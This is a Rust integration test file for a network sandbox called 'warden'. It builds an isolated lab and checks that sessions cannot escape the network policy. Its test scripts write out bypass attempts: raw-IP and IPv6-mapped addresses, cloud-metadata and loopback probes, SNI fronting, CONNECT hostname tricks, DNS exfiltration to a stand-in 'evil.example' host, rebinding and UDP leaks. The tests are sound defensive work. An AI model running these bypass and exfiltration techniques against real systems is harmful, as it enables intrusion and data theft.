@@ -1,0 +1,770 @@
+//! A session's network, attacked from inside (SPEC §4, §7.2): real clients in real
+//! sessions against real servers.
+//!
+//! Each test builds a *lab*: its own network, mount and PID namespaces (`unshare`, see
+//! `run_network/lab.sh`) holding "the internet" (203.0.113.10: api.test, git.test,
+//! ssh.test, other.test), the host's resolver (203.0.113.53, which logs every query),
+//! and services that must stay out of reach (the host's loopback, cloud metadata, a
+//! private network). `warden run` runs inside the lab exactly as on a host; the lab dies
+//! with the test, leaving nothing behind.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code
+
+mod run_common;
+
+use run_common::*;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+const LAB_PY: &str = include_str!("run_network/lab.py");
+const LAB_SH: &str = include_str!("run_network/lab.sh");
+
+const HOSTS: &str = "127.0.0.1\tlocalhost\n\
+203.0.113.10\tapi.test git.test ssh.test other.test\n\
+127.0.0.1\tloop.test\n\
+169.254.169.254\tmeta.test\n\
+10.1.2.3\tprivate.test\n";
+
+/// Allows the lab's public names; loop/meta/private.test are allowed *by name* so that
+/// only the address check stands between the session and those services.
+const NET: &str = r#"
+[network]
+allow = ["api.test", "git.test:443", "ssh.test:2222", "loop.test", "meta.test", "private.test", "rebind.test"]
+"#;
+
+/// Exports that make the session's clients trust the lab's certificate.
+const TRUST: &str = "export SSL_CERT_FILE=$PWD/ca.crt CURL_CA_BUNDLE=$PWD/ca.crt \
+GIT_SSL_CAINFO=$PWD/ca.crt NODE_EXTRA_CA_CERTS=$PWD/ca.crt REQUESTS_CA_BUNDLE=$PWD/ca.crt\n";
+
+const SECRETS: [&str; 3] = ["HOST-LOOPBACK-SECRET", "METADATA-SECRET", "PRIVATE-SECRET"];
+
+struct Lab {
+    env: Env,
+    dir: PathBuf,
+}
+
+fn sh(cmd: &mut Command) {
+    let o = cmd.output().unwrap();
+    assert!(o.status.success(), "{cmd:?}: {}", text(&o));
+}
+
+impl Lab {
+    fn new(policy: &str) -> Option<Lab> {
+        Lab::with(Env::new(policy))
+    }
+
+    fn with(env: Env) -> Option<Lab> {
+        if !is_root() {
+            eprintln!("\n!!!!! SKIPPING: the network lab needs root (unshare --net) !!!!!\n");
+            return None;
+        }
+        let dir = env.dir.path().canonicalize().unwrap().join("lab");
+        let www = dir.join("www");
+        std::fs::create_dir_all(&www).unwrap();
+        std::fs::write(dir.join("lab.py"), LAB_PY).unwrap();
+        std::fs::write(dir.join("lab.sh"), LAB_SH).unwrap();
+        std::fs::write(dir.join("hosts"), HOSTS).unwrap();
+        std::fs::write(
+            dir.join("resolv.conf"),
+            "nameserver 203.0.113.53\noptions timeout:1 attempts:1\n",
+        )
+        .unwrap();
+        // The lab's certificate for its HTTPS names, its own trust anchor.
+        sh(Command::new("openssl")
+            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt"])
+            .args(["ec_paramgen_curve:prime256v1", "-nodes", "-days", "2"])
+            .args(["-subj", "/CN=lab", "-addext"])
+            .arg("subjectAltName=DNS:api.test,DNS:git.test")
+            .arg("-keyout")
+            .arg(dir.join("cert.key"))
+            .arg("-out")
+            .arg(dir.join("cert.crt")));
+        std::fs::copy(dir.join("cert.crt"), env.ws.join("ca.crt")).unwrap();
+        // A repository served over "dumb" HTTPS.
+        let src = dir.join("src");
+        std::fs::create_dir_all(&src).unwrap();
+        std::fs::write(src.join("README"), "lab repo\n").unwrap();
+        let git = |args: &[&str], cwd: &Path| {
+            sh(Command::new("git")
+                .args(["-c", "user.name=lab", "-c", "user.email=lab@test"])
+                .args(["-c", "init.defaultBranch=main"])
+                .args(args)
+                .current_dir(cwd));
+        };
+        git(&["init", "-q"], &src);
+        git(&["add", "README"], &src);
+        git(&["commit", "-qm", "lab"], &src);
+        git(&["clone", "-q", "--bare", "src", "www/repo.git"], &dir);
+        git(&["update-server-info"], &www.join("repo.git"));
+        Some(Lab { env, dir })
+    }
+
+    /// The lab command around `warden run [extra] -- sh -c script`.
+    fn command(&self, extra: &[&str], script: &str) -> Command {
+        let inner = self.env.cmd(extra, &["/bin/sh", "-c", script]);
+        let mut c = Command::new("unshare");
+        c.args(["--net", "--mount", "--pid", "--fork", "--kill-child"])
+            .args(["--mount-proc", "--propagation", "private", "--", "sh"])
+            .arg(self.dir.join("lab.sh"))
+            .arg(&self.dir)
+            .arg(inner.get_program())
+            .args(inner.get_args());
+        for (k, v) in inner.get_envs() {
+            match v {
+                Some(v) => c.env(k, v),
+                None => c.env_remove(k),
+            };
+        }
+        c.current_dir(&self.env.ws).stdin(Stdio::null());
+        c
+    }
+
+    fn run(&self, script: &str) -> Output {
+        self.command(&[], script).output().unwrap()
+    }
+
+    fn log(&self, name: &str) -> String {
+        std::fs::read_to_string(self.dir.join(name)).unwrap_or_default()
+    }
+
+    fn exit(&self) -> Option<i32> {
+        self.log("exit").trim().parse().ok()
+    }
+
+    fn wait_for(&self, path: &Path, within: Duration) {
+        let t = Instant::now();
+        while !path.exists() {
+            assert!(t.elapsed() < within, "{} did not appear", path.display());
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    }
+
+    fn events(&self) -> Vec<serde_json::Value> {
+        self.env.audit_events()
+    }
+}
+
+/// The line of `out` starting with `label:`.
+fn line<'a>(out: &'a str, label: &str) -> &'a str {
+    out.lines()
+        .find(|l| l.starts_with(&format!("{label}:")))
+        .unwrap_or_else(|| panic!("no {label}: line in\n{out}"))
+}
+
+fn network_events<'a>(
+    events: &'a [serde_json::Value],
+    action: &'a str,
+) -> impl Iterator<Item = &'a serde_json::Value> + 'a {
+    events
+        .iter()
+        .filter(move |e| e["surface"] == "network" && e["action"] == action)
+}
+
+#[test]
+fn real_clients_reach_allowed_hosts_by_proxy_and_transparently() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let script = format!(
+        r#"{TRUST}
+echo "curl-proxy-http: $(curl -sS -m 10 http://api.test/hello/1 2>&1)"
+echo "curl-proxy-https: $(curl -sS -m 10 https://api.test/hello/2 2>&1)"
+echo "curl-tun-https: $(curl -sS -m 10 --noproxy '*' https://api.test/hello/3 2>&1)"
+echo "curl-tun-http: $(curl -sS -m 10 --noproxy '*' http://api.test/hello/4 2>&1)"
+echo "curl-tun-v6: $(curl -sS -m 10 --noproxy '*' -6 http://api.test/hello/v6 2>&1)"
+python3 - <<'EOF'
+import socket, urllib.request
+print("py-urllib:", urllib.request.urlopen("https://api.test/hello/5", timeout=10).read().decode())
+s = socket.create_connection(("api.test", 80), timeout=10)
+s.sendall(b"GET /hello/6 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
+data = b""
+while True:
+    d = s.recv(4096)
+    if not d:
+        break
+    data += d
+print("py-raw:", data.decode().split("\r\n\r\n", 1)[1])
+s = socket.create_connection(("ssh.test", 2222), timeout=10)
+print("py-banner-tun:", s.recv(100).decode().strip())
+p = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+p.sendall(b"CONNECT ssh.test:2222 HTTP/1.1\r\nHost: ssh.test:2222\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += p.recv(1)
+rest = p.recv(100)
+print("py-banner-connect:", head.split(b"\r\n")[0].decode(), rest.decode().strip())
+EOF
+node -e 'fetch("https://api.test/hello/7").then(r => r.text()).then(t => console.log("node-fetch:", t)).catch(e => console.log("node-fetch: ERR", e.cause || e))'
+git clone -q https://git.test/repo.git cloned 2>&1 && echo "git: $(cat cloned/README)"
+"#
+    );
+    let o = lab.run(&script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    for (label, n) in [
+        ("curl-proxy-http", "1"),
+        ("curl-proxy-https", "2"),
+        ("curl-tun-https", "3"),
+        ("curl-tun-http", "4"),
+        ("curl-tun-v6", "v6"),
+        ("py-urllib", "5"),
+        ("py-raw", "6"),
+        ("node-fetch", "7"),
+    ] {
+        assert!(
+            line(&out, label).ends_with(&format!("public says hello to api.test /hello/{n}")),
+            "{label}: {}",
+            text(&o)
+        );
+    }
+    assert!(
+        line(&out, "py-banner-tun").ends_with("SSH-2.0-lab"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "py-banner-connect").ends_with("200 Connection established SSH-2.0-lab")
+            || line(&out, "py-banner-connect").contains(" 200 ")
+                && line(&out, "py-banner-connect").ends_with("SSH-2.0-lab"),
+        "{}",
+        text(&o)
+    );
+    assert_eq!(line(&out, "git"), "git: lab repo", "{}", text(&o));
+
+    // Both doors are audited with the name, the dialled address, and the byte counts.
+    let events = lab.events();
+    for via in ["proxy", "tun"] {
+        let c = network_events(&events, "connect")
+            .find(|e| e["via"] == via && e["target"] == "api.test:443")
+            .unwrap_or_else(|| panic!("no {via} connect to api.test:443: {events:#?}"));
+        assert_eq!(c["decision"], "allow");
+        assert_eq!(c["address"], "203.0.113.10:443", "{c}");
+        let closed = network_events(&events, "close")
+            .find(|e| e["conn"] == c["conn"])
+            .unwrap_or_else(|| panic!("no close for {c}"));
+        assert!(
+            closed["bytes_up"].as_u64().unwrap() > 0 && closed["bytes_down"].as_u64().unwrap() > 0,
+            "{closed}"
+        );
+        assert!(closed["duration_ms"].is_u64(), "{closed}");
+    }
+    assert!(
+        network_events(&events, "dns")
+            .any(|e| e["target"] == "api.test" && e["decision"] == "allow"),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn bypass_attempts_reach_nothing() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let script = format!(
+        r#"{TRUST}
+t() {{ label=$1; shift; s=$(date +%s%N); r=$("$@" 2>&1 | head -c 400 | tr '\n' ' '); echo "$label: $r ($(( ($(date +%s%N) - s) / 1000000 )) ms)"; }}
+t raw-ip-tun curl -sS -m 5 --noproxy '*' http://203.0.113.10/hello/raw
+t raw-ip-proxy curl -sS -m 5 http://203.0.113.10/hello/raw
+t mapped-tun curl -sS -m 5 --noproxy '*' -g 'http://[::ffff:203.0.113.10]/hello/mapped'
+t mapped-proxy curl -sS -m 5 -g 'http://[::ffff:127.0.0.1]/'
+t nat64-tun curl -sS -m 5 --noproxy '*' -g 'http://[64:ff9b::7f00:1]/'
+t v6-proxy curl -sS -m 5 -g 'http://[2001:db8::1]/'
+t metadata-tun curl -sS -m 5 --noproxy '*' http://169.254.169.254/
+t metadata-proxy curl -sS -m 5 http://169.254.169.254/
+t metadata-name curl -sS -m 5 http://meta.test/
+t metadata-name-tun curl -sS -m 5 --noproxy '*' http://meta.test/
+t loopback-name curl -sS -m 5 http://loop.test/
+t loopback-name-tun curl -sS -m 5 --noproxy '*' http://loop.test/
+t loopback-raw curl -sS -m 5 --noproxy '*' http://127.0.0.1/
+t private-name curl -sS -m 5 http://private.test/
+t private-raw-tun curl -sS -m 5 --noproxy '*' http://10.1.2.3/
+t not-allowed curl -sS -m 5 http://other.test/hello/other
+t not-allowed-tun curl -sS -m 5 --noproxy '*' http://other.test/hello/other
+t port curl -sS -m 5 -p http://api.test:2222/
+t port-tun curl -sS -m 5 --noproxy '*' http://api.test:2222/
+t userinfo curl -sS -m 5 'http://api.test@other.test/hello/userinfo'
+t case-dot curl -sS -m 5 http://API.Test./hello/case
+python3 - <<'EOF'
+import socket, ssl
+def proxy(req):
+    p = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+    p.sendall(req)
+    return p
+def status(p):
+    head = b""
+    while b"\r\n\r\n" not in head:
+        d = p.recv(1)
+        if not d:
+            break
+        head += d
+    return head.split(b"\r\n")[0].decode()
+ctx = ssl.create_default_context()
+ctx.check_hostname = False
+ctx.verify_mode = ssl.CERT_NONE
+# SNI that disagrees with the CONNECT host (domain fronting).
+p = proxy(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
+print("sni-connect-status:", status(p))
+try:
+    t = ctx.wrap_socket(p, server_hostname="other.test")
+    t.sendall(b"GET /hello/fronted HTTP/1.1\r\nHost: other.test\r\n\r\n")
+    print("sni-mismatch:", "FRONTED", t.recv(200))
+except OSError as e:
+    print("sni-mismatch: refused", e)
+# The same through the TUN: connect to api.test, say other.test.
+try:
+    s = socket.create_connection(("api.test", 443), timeout=10)
+    t = ctx.wrap_socket(s, server_hostname="other.test")
+    t.sendall(b"GET /hello/fronted-tun HTTP/1.1\r\nHost: other.test\r\n\r\n")
+    print("sni-mismatch-tun:", "FRONTED", t.recv(200))
+except OSError as e:
+    print("sni-mismatch-tun: refused", e)
+# Host header that disagrees with the request target.
+p = proxy(b"GET http://api.test/hello/hostmismatch HTTP/1.1\r\nHost: other.test\r\n\r\n")
+print("host-mismatch:", status(p))
+# Hostname tricks in CONNECT.
+for target in [b"api.test%00.other.test:443", b"api.test\x00.other.test:443", b"other.test@api.test:443", b"api.test.:443", b"[::ffff:203.0.113.10]:443"]:
+    p = proxy(b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
+    print("connect-trick:", repr(target), status(p))
+EOF
+"#
+    );
+    let o = lab.run(&script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    for s in SECRETS {
+        assert!(!out.contains(s), "{s} reached the session: {}", text(&o));
+    }
+    assert!(!out.contains("FRONTED"), "{}", text(&o));
+    // Proxy refusals are 403s naming the rule; TUN refusals close the connection.
+    for label in [
+        "raw-ip-proxy",
+        "mapped-proxy",
+        "v6-proxy",
+        "metadata-proxy",
+        "metadata-name",
+        "loopback-name",
+        "private-name",
+        "not-allowed",
+        "port",
+        "userinfo",
+    ] {
+        let l = line(&out, label);
+        assert!(
+            l.contains("403") || l.contains("denied") || l.contains("Forbidden"),
+            "{l}\n{}",
+            text(&o)
+        );
+    }
+    for label in [
+        "raw-ip-tun",
+        "mapped-tun",
+        "nat64-tun",
+        "metadata-tun",
+        "metadata-name-tun",
+        "loopback-name-tun",
+        "loopback-raw",
+        "private-raw-tun",
+        "not-allowed-tun",
+        "port-tun",
+    ] {
+        let l = line(&out, label);
+        assert!(!l.contains("says hello"), "{l}\n{}", text(&o));
+        assert!(l.contains("curl: ("), "{l}\n{}", text(&o));
+    }
+    assert!(
+        line(&out, "case-dot").ends_with("public says hello to API.Test. /hello/case")
+            || line(&out, "case-dot").contains("says hello"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "sni-connect-status").contains("200"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "sni-mismatch").contains("refused"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "sni-mismatch-tun").contains("refused"),
+        "{}",
+        text(&o)
+    );
+    assert!(line(&out, "host-mismatch").contains(" 400"), "{}", text(&o));
+    for l in out.lines().filter(|l| l.starts_with("connect-trick:")) {
+        let allowed_spelling = l.contains("b'api.test.:443'");
+        assert_eq!(
+            l.contains(" 200 "),
+            allowed_spelling,
+            "only the trailing-dot spelling of an allowed name may connect: {l}\n{}",
+            text(&o)
+        );
+    }
+    // Upstream saw only the one allowed request, never a fronted or tricked one.
+    let hits = lab.log("hits.log");
+    assert!(
+        !hits.contains("other") && !hits.contains("raw") && !hits.contains("mapped"),
+        "{hits}"
+    );
+    assert!(
+        !hits.contains("fronted") && !hits.contains("hostmismatch"),
+        "{hits}"
+    );
+    for s in SECRETS {
+        assert!(!hits.contains(s), "{s} was contacted: {hits}");
+    }
+    // Every refusal is on record.
+    let events = lab.events();
+    let denied: Vec<&str> = events
+        .iter()
+        .filter(|e| e["surface"] == "network" && e["decision"] == "deny")
+        .filter_map(|e| e["target"].as_str())
+        .collect();
+    for t in [
+        "203.0.113.10",
+        "169.254.169.254",
+        "meta.test",
+        "loop.test",
+        "private.test",
+        "10.1.2.3",
+        "other.test",
+        "api.test:2222",
+    ] {
+        assert!(
+            denied.iter().any(|d| d.contains(t)),
+            "no deny recorded for {t}: {denied:#?}"
+        );
+    }
+}
+
+#[test]
+fn dns_exfiltration_never_leaves_and_only_a_and_aaaa_are_answered() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let script = r#"python3 - <<'EOF'
+import random, socket, struct
+for n in ["c2VjcmV0LWRhdGE.exfil.other.test", "c2VjcmV0.exfil.evil.example", "api.test.exfil.evil.example"]:
+    try:
+        socket.getaddrinfo(n, 80)
+        print("resolved:", n)
+    except OSError as e:
+        print("not-resolved:", n)
+def query(server, name, qtype, family=socket.AF_INET):
+    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    q += struct.pack("!HH", qtype, 1)
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    s.settimeout(3)
+    s.sendto(q, (server, 53))
+    try:
+        r = s.recv(4096)
+        rcode = r[3] & 0xF
+        ancount = struct.unpack("!H", r[6:8])[0]
+        return "rcode=%d answers=%d" % (rcode, ancount)
+    except socket.timeout:
+        return "timeout"
+# Straight at the session's resolver, at the host's resolver address, at a public one.
+for server in ["127.0.0.1", "203.0.113.53", "8.8.8.8"]:
+    print("raw-%s:" % server, query(server, "rawsecret.exfil.evil.example", 1))
+print("raw-v6:", query("2001:4860:4860::8888", "v6secret.exfil.evil.example", 28, socket.AF_INET6))
+print("txt-allowed:", query("127.0.0.1", "api.test", 16))
+print("a-allowed:", query("127.0.0.1", "api.test", 1))
+print("aaaa-allowed:", query("127.0.0.1", "api.test", 28))
+EOF
+"#;
+    let o = lab.run(script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(
+        !out.lines().any(|l| l.starts_with("resolved:")),
+        "{}",
+        text(&o)
+    );
+    for label in ["raw-127.0.0.1", "raw-203.0.113.53", "raw-8.8.8.8", "raw-v6"] {
+        assert!(
+            line(&out, label).ends_with("rcode=3 answers=0"),
+            "{label} must be NXDOMAIN from Warden: {}",
+            text(&o)
+        );
+    }
+    assert!(
+        line(&out, "txt-allowed").ends_with("answers=0"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "a-allowed").ends_with("rcode=0 answers=1"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        line(&out, "aaaa-allowed").ends_with("rcode=0 answers=1"),
+        "{}",
+        text(&o)
+    );
+    // The host's resolver never heard of any of it.
+    let dns = lab.log("dns.log");
+    assert!(
+        !dns.contains("exfil") && !dns.contains("secret"),
+        "a query left the machine: {dns}"
+    );
+    let events = lab.events();
+    assert!(
+        network_events(&events, "dns").any(
+            |e| e["decision"] == "deny" && e["target"].as_str().unwrap_or("").contains("exfil")
+        ),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn a_rebinding_name_is_resolved_once_and_the_checked_address_dialled() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let script = r#"
+for i in 1 2 3 4; do echo "proxy-$i: $(curl -sS -m 5 http://rebind.test/hello/r$i 2>&1)"; done
+for i in 5 6 7 8; do echo "tun-$i: $(curl -sS -m 5 --noproxy '*' http://rebind.test/hello/r$i 2>&1)"; done
+"#;
+    let o = lab.run(script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(!out.contains("HOST-LOOPBACK-SECRET"), "{}", text(&o));
+    // The lab's resolver alternates public and loopback answers: some requests go
+    // through, the others are refused; none reaches the loopback service.
+    assert!(out.contains("public says hello"), "{}", text(&o));
+    let hits = lab.log("hits.log");
+    assert!(!hits.contains("HOST-LOOPBACK-SECRET"), "{hits}");
+    let events = lab.events();
+    assert!(
+        events.iter().any(|e| e["surface"] == "network"
+            && e["decision"] == "deny"
+            && e["target"]
+                .as_str()
+                .unwrap_or("")
+                .starts_with("rebind.test")
+            && e["reason"].as_str().unwrap_or("").contains("loopback")),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn udp_and_icmp_never_leave_and_are_recorded() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let script = r#"python3 - <<'EOF'
+import socket, time
+for dst in [("203.0.113.10", 9999), ("api.test", 9999)]:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(3):
+        s.sendto(b"leak-" + dst[0].encode(), dst)
+s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+s6.sendto(b"leak-v6", ("64:ff9b::cb00:710a", 9999))
+for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
+    try:
+        i = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
+        i.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("203.0.113.10", 0))
+        print("icmp-sent:", kind)
+    except OSError as e:
+        print("icmp-refused:", kind, e)
+time.sleep(0.5)
+print("done:")
+EOF
+"#;
+    let o = lab.run(script);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(stdout(&o).contains("done:"), "{}", text(&o));
+    assert_eq!(lab.log("udp.log"), "", "UDP left the session");
+    let events = lab.events();
+    assert!(
+        network_events(&events, "udp").any(|e| e["decision"] == "deny"
+            && e["target"].as_str().unwrap_or("").contains("9999")),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn http_method_and_path_rules_apply_to_plain_http() {
+    let policy = format!(
+        "{BASE}{NET}\n[[network.http]]\nhost = \"api.test\"\nmethods = [\"GET\"]\npaths = [\"/hello/**\"]\n"
+    );
+    let Some(lab) = Lab::new(&policy) else { return };
+    let script = r#"
+c() { curl -sS -m 5 -w ' [%{http_code}]' "$@" 2>&1; }
+echo "get-ok: $(c http://api.test/hello/ok | tr '\n' ' ')"
+echo "get-other-path: $(c http://api.test/admin | tr '\n' ' ')"
+echo "post: $(c -d x=1 http://api.test/hello/post | tr '\n' ' ')"
+echo "dotdot: $(c --path-as-is http://api.test/hello/../admin | tr '\n' ' ')"
+"#;
+    let o = lab.run(script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(line(&out, "get-ok").contains("says hello"), "{}", text(&o));
+    for l in ["get-other-path", "post", "dotdot"] {
+        assert!(line(&out, l).ends_with("[403]"), "{}", text(&o));
+    }
+    let hits = lab.log("hits.log");
+    assert!(!hits.contains("admin") && !hits.contains("POST"), "{hits}");
+}
+
+#[test]
+fn audit_mode_blocks_nothing_and_records_would_be_denies() {
+    let Some(lab) = Lab::new(&format!("mode = \"audit\"\n{BASE}{NET}")) else {
+        return;
+    };
+    let o = lab.run(
+        "echo \"other: $(curl -sS -m 5 http://other.test/hello/audit 2>&1)\"\n\
+         echo \"other-tun: $(curl -sS -m 5 --noproxy '*' http://other.test/hello/audit-tun 2>&1)\"",
+    );
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(line(&out, "other").contains("says hello"), "{}", text(&o));
+    assert!(
+        line(&out, "other-tun").contains("says hello"),
+        "{}",
+        text(&o)
+    );
+    let events = lab.events();
+    let would = network_events(&events, "connect")
+        .find(|e| e["target"] == "other.test:80" && e["decision"] == "deny")
+        .unwrap_or_else(|| panic!("{events:#?}"));
+    assert_eq!(would["enforced"], false, "{would}");
+}
+
+#[test]
+fn policy_changes_apply_to_new_connections_and_an_invalid_one_is_refused() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let ws = lab.env.ws.clone();
+    let script = r#"
+echo "before: $(curl -sS -m 5 http://other.test/hello/before 2>&1)"
+touch phase1
+while [ ! -e phase2 ]; do sleep 0.02; done
+i=0
+while :; do
+    out=$(curl -sS -m 5 http://other.test/hello/after 2>&1)
+    case "$out" in *"says hello"*) break;; esac
+    i=$((i + 1)); [ "$i" -gt 100 ] && break
+    sleep 0.05
+done
+echo "after: $out (attempts $i)"
+touch phase3
+while [ ! -e phase4 ]; do sleep 0.02; done
+sleep 1.5
+echo "invalid: $(curl -sS -m 5 http://other.test/hello/kept 2>&1)"
+"#;
+    let child = lab
+        .command(&[], script)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    lab.wait_for(&ws.join("phase1"), Duration::from_secs(60));
+    let widened =
+        format!("{BASE}{NET}").replace("\"rebind.test\"", "\"rebind.test\", \"other.test\"");
+    std::fs::write(
+        &lab.env.policy,
+        format!("version = 1\nname = \"test\"\n{widened}"),
+    )
+    .unwrap();
+    let changed = Instant::now();
+    std::fs::write(ws.join("phase2"), "").unwrap();
+    lab.wait_for(&ws.join("phase3"), Duration::from_secs(60));
+    let took = changed.elapsed();
+    std::fs::write(&lab.env.policy, "version = 1\n[network\nallow = [").unwrap();
+    std::fs::write(ws.join("phase4"), "").unwrap();
+    let o = child.wait_with_output().unwrap();
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(line(&out, "before").contains("denied"), "{}", text(&o));
+    assert!(line(&out, "after").contains("says hello"), "{}", text(&o));
+    assert!(line(&out, "invalid").contains("says hello"), "{}", text(&o));
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert!(err.contains("is invalid"), "{}", text(&o));
+    eprintln!("new policy in force after {took:?} (includes the session noticing phase2)");
+    let events = lab.events();
+    assert!(
+        events.iter().any(|e| e["action"] == "policy_reload"),
+        "{events:#?}"
+    );
+}
+
+#[test]
+fn killing_warden_ends_the_session_and_its_network() {
+    let Some(lab) = Lab::new(&format!("{BASE}{NET}")) else {
+        return;
+    };
+    let ws = lab.env.ws.clone();
+    let script = "while :; do curl -s -m 1 --noproxy '*' http://api.test/hello/loop >> loop.log; echo >> loop.log; sleep 0.05; done";
+    let child = lab
+        .command(&[], script)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let t = Instant::now();
+    while std::fs::read_to_string(ws.join("loop.log"))
+        .unwrap_or_default()
+        .matches("says hello")
+        .count()
+        < 3
+    {
+        assert!(
+            t.elapsed() < Duration::from_secs(60),
+            "the loop never got through"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    std::fs::write(lab.dir.join("kill"), "").unwrap();
+    let o = child.wait_with_output().unwrap();
+    assert_eq!(lab.exit(), Some(137), "{}", text(&o));
+    let left = lab.log("left");
+    assert!(
+        !left
+            .lines()
+            .any(|l| l.starts_with("/bin/sh -c") || l.starts_with("curl")),
+        "session processes outlived warden: {left}"
+    );
+    let before = std::fs::read_to_string(ws.join("loop.log")).unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(
+        before,
+        std::fs::read_to_string(ws.join("loop.log")).unwrap()
+    );
+}
+
+#[test]
+fn unprivileged_sessions_keep_the_proxy_and_never_gain_a_route() {
+    if !is_root() {
+        return;
+    }
+    let Some(lab) = Lab::with(Env::unprivileged(&format!("{BASE}{NET}"))) else {
+        return;
+    };
+    let script = r#"
+echo "proxy: $(curl -sS -m 10 http://api.test/hello/unpriv 2>&1)"
+echo "raw: $(curl -sS -m 5 --noproxy '*' http://203.0.113.10/hello/raw 2>&1)"
+"#;
+    let o = lab.run(script);
+    let out = stdout(&o);
+    assert_eq!(lab.exit(), Some(0), "{}", text(&o));
+    assert!(line(&out, "proxy").contains("says hello"), "{}", text(&o));
+    assert!(!line(&out, "raw").contains("says hello"), "{}", text(&o));
+    let tun_usable = std::fs::metadata("/dev/net/tun")
+        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o006 == 0o006)
+        .unwrap_or(false);
+    if !tun_usable {
+        // No TUN for this user: no route at all, and the user is told why.
+        assert!(line(&out, "raw").contains("curl: (7)"), "{}", text(&o));
+        assert!(
+            String::from_utf8_lossy(&o.stderr).contains("/dev/net/tun"),
+            "{}",
+            text(&o)
+        );
+    }
+}
